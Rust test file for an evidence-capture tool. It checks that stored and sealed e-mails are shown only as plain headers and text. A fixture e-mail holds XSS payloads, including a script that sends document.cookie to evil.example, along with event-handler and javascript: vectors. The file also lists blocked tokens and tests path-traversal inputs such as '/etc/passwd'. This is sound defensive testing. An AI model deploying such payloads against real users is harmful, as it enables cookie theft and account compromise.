//! E-mails read as a person would, on both sides: the staff member's store
//! (`capture::email_view`, the app's `email_view`) and an opened bundle's item
//! (`Register::email`, the app's `dsl_email_view`). Real `.eml` files, captured with
//! the CLI, sealed and opened.

use crate::util::*;
use evidence_kit::mail::EmailView;

/// An HTML-only e-mail that would run script and handlers if shown as HTML.
const HOSTILE: &[u8] = b"From: Sam Jones <sam@example.org>\r\n\
To: A Teacher <a.teacher@school.example>\r\n\
Date: Tue, 24 Nov 2026 21:04:00 +0000\r\n\
Subject: =?utf-8?q?Look_at_this?=\r\n\
MIME-Version: 1.0\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><script>alert('head')</script></head>\
<body onload=\"steal()\"><p>You <b>will</b> regret this.</p>\
<SCRIPT type=\"text/javascript\">document.location='https://evil.example/?'+document.cookie</SCRIPT>\
<img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\" onclick=\"alert(3)\">click</a>\
<iframe src=\"https://evil.example\"></iframe><style>body{display:none}</style></body></html>\r\n";

/// A multipart/alternative e-mail: a text part and an HTML one.
const MULTIPART: &[u8] = b"From: sam@example.org\r\n\
To: a.teacher@school.example\r\n\
Date: Wed, 25 Nov 2026 08:30:00 +0100\r\n\
Subject: Again\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n\
--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe text part.\r\nSecond line.\r\n\
--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>The <i>HTML</i> part.</p>\r\n\
--b1--\r\n";

fn assert_hostile_is_text(v: &EmailView) {
    assert_eq!(v.from.as_deref(), Some("Sam Jones <sam@example.org>"));
    assert_eq!(
        v.to.as_deref(),
        Some("A Teacher <a.teacher@school.example>")
    );
    assert_eq!(v.date.as_deref(), Some("2026-11-24T21:04:00Z"));
    assert_eq!(v.subject.as_deref(), Some("Look at this"));
    assert_eq!(v.body, "You will regret this.\nclick");
    assert!(!v.cut);
    let lower = v.body.to_lowercase();
    for bad in [
        "<script",
        "<",
        "onload",
        "onerror",
        "onclick",
        "javascript:",
        "cookie",
    ] {
        assert!(!lower.contains(bad), "{bad:?} in {:?}", v.body);
    }
}

fn multipart_ok(v: &EmailView) {
    assert_eq!(v.from.as_deref(), Some("sam@example.org"));
    assert_eq!(v.date.as_deref(), Some("2026-11-25T08:30:00+01:00"));
    assert_eq!(v.subject.as_deref(), Some("Again"));
    assert_eq!(v.body.trim_end(), "The text part.\r\nSecond line.");
}

/// The staff member's side: a hostile HTML-only e-mail comes back as its text with
/// nothing that runs, a multipart one as its text part, the headers read; a long body
/// is cut and says so; an item that is no e-mail has no view.
#[test]
fn headline_an_email_is_read_as_headers_and_plain_text_never_html() {
    let env = Env::new();
    let case = env.case();
    let long = [
        &b"From: a@example.org\r\nSubject: Long\r\n\r\n"[..],
        &vec![b'x'; evidence_kit::mail::MAX_BODY_BYTES + 10],
    ]
    .concat();
    let files = [
        env.file("hostile.eml", HOSTILE),
        env.file("both.eml", MULTIPART),
        env.file("long.eml", &long),
        env.file("note.txt", b"just text\n"),
    ];
    let mut args = vec!["capture", "file", "--case", &case];
    args.extend(files.iter().map(|f| f.to_str().unwrap()));
    env.ok(&args);
    let store = evidence_kit::store::Store::open(&env.store()).unwrap();
    let view = |id| evidence_kit::capture::email_view(&store, id).unwrap();
    assert_hostile_is_text(&view(1).expect("an e-mail"));
    multipart_ok(&view(2).expect("an e-mail"));
    let cut = view(3).expect("an e-mail");
    assert!(cut.cut);
    assert_eq!(cut.body.len(), evidence_kit::mail::MAX_BODY_BYTES);
    assert_eq!(view(4), None, "a text file is no e-mail");
    // Reading writes nothing: no entry, the item's sender and time seen still empty.
    let log = store.custody(Some(&case)).unwrap();
    assert_eq!(log.last().unwrap().action, "captured");
    let item = store.item(1).unwrap();
    assert_eq!((item.from.email, item.seen), (None, None));
}

/// The designated person's side: the same e-mails in an opened bundle read the same,
/// found as its pictures are (a name from outside never leaves the bundle's folder).
#[test]
fn headline_an_email_in_an_opened_bundle_is_read_as_plain_text() {
    let staff = Env::new();
    let cfg = staff.path("cfg");
    staff.new_key(&cfg, "A. Teacher");
    let case = staff.case();
    let a = staff.file("hostile.eml", HOSTILE);
    let b = staff.file("both.eml", MULTIPART);
    #[rustfmt::skip]
    staff.ok(&["capture", "file", "--case", &case, a.to_str().unwrap(), b.to_str().unwrap()]);
    let bundle = staff.seal(&cfg, &case, "b.evidence");
    let dsl = Env::new();
    let reg = evidence_kit::register::Register::open(&dsl.store()).unwrap();
    let mut f = std::fs::File::open(&bundle).unwrap();
    let sha = reg.keep("b.evidence", &mut f).unwrap();
    let opts = evidence_kit::verify::Options {
        trusted: vec![evidence_kit::keys::PublicKey::read(&cfg.join("signing.pub")).unwrap()],
        ..Default::default()
    };
    let view = reg.open_kept(&sha, &opts).unwrap();
    let path_of = |name: &str| {
        view.items
            .iter()
            .find(|i| i.item.original_name == name)
            .unwrap()
            .path
            .clone()
    };
    assert_hostile_is_text(&reg.email(&sha, &path_of("hostile.eml")).unwrap().unwrap());
    multipart_ok(&reg.email(&sha, &path_of("both.eml")).unwrap().unwrap());
    assert_eq!(reg.email(&sha, "data/../../register.sqlite").unwrap(), None);
    assert_eq!(reg.email(&sha, "/etc/passwd").unwrap(), None);
}
